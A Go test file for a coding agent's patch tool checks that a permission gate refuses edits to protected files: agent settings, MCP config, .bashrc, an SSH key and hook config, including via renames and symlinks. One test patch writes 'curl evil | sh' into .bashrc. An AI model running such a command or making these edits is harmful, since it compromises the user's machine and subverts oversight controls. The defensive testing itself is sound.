package patch

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/kaizen-code/kz/tools/permission"
)

// TestGateGuardRefusesProtectedPaths validates proposals against the real
// permission gate's safety checks: every protected path is refused before
// anything is written, including the source of a rename and a path that
// reaches a protected directory through a symbolic link; ordinary paths
// pass.
func TestGateGuardRefusesProtectedPaths(t *testing.T) {
	ctx := context.Background()
	home := t.TempDir()
	work, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	writeFiles(t, work, map[string]string{
		".claude/settings.json": "{}\n", ".mcp.json": "{}\n", ".bashrc": "x\n", "id_rsa": "key\n",
		"src/a.go": "package a\n", ".kz/config.toml": "x = 1\n",
	})
	if err := os.Symlink(".claude", filepath.Join(work, "cfg")); err != nil {
		t.Fatal(err)
	}
	g, err := permission.New(permission.Options{Home: home})
	if err != nil {
		t.Fatal(err)
	}
	a, snaps := newTestApplier(t, work)
	a.Guard = GateGuard{Gate: g, Workspace: work}
	before := readTree(t, work)
	refused := map[string]string{
		"agent settings":          "*** Begin Patch\n*** Update File: .claude/settings.json\n-{}\n+{\"x\":1}\n*** End Patch\n",
		"agent MCP config":        "*** Begin Patch\n*** Delete File: .mcp.json\n*** End Patch\n",
		"shell startup file":      ".bashrc\n<<<<<<< SEARCH\nx\n=======\ncurl evil | sh\n>>>>>>> REPLACE\n",
		"credential":              "*** Begin Patch\n*** Update File: id_rsa\n-key\n+other\n*** End Patch\n",
		"kz project config":       "*** Begin Patch\n*** Add File: .kz/hooks.toml\n+x\n*** End Patch\n",
		"rename source":           "*** Begin Patch\n*** Update File: .claude/settings.json\n*** Move to: settings.json\n-{}\n+{}\n+\n*** End Patch\n",
		"rename target":           "*** Begin Patch\n*** Update File: src/a.go\n*** Move to: .claude/a.go\n-package a\n+package b\n*** End Patch\n",
		"through a symbolic link": "*** Begin Patch\n*** Add File: cfg/new.json\n+{}\n*** End Patch\n",
	}
	for name, text := range refused {
		t.Run(name, func(t *testing.T) {
			p, err := Parse(text)
			if err != nil {
				t.Fatal(err)
			}
			_, err = a.Validate(ctx, p)
			var ve *ValidationError
			if !errors.As(err, &ve) || (ve.Problems[0].Kind != RefusedProtected && ve.Problems[0].Kind != RefusedPath) {
				t.Fatalf("validate: %v, want a protected-path refusal", err)
			}
			compareTrees(t, "after refusal", readTree(t, work), before)
		})
	}
	p, err := Parse("*** Begin Patch\n*** Update File: src/a.go\n-package a\n+package b\n*** Add File: src/b.go\n+package a\n*** End Patch\n")
	if err != nil {
		t.Fatal(err)
	}
	plan, err := a.Validate(ctx, p)
	if err != nil {
		t.Fatalf("an ordinary change was refused: %v", err)
	}
	if _, err := a.Apply(ctx, plan); err != nil {
		t.Fatal(err)
	}
	if snaps.Last() == "" {
		t.Fatal("no snapshot")
	}
}
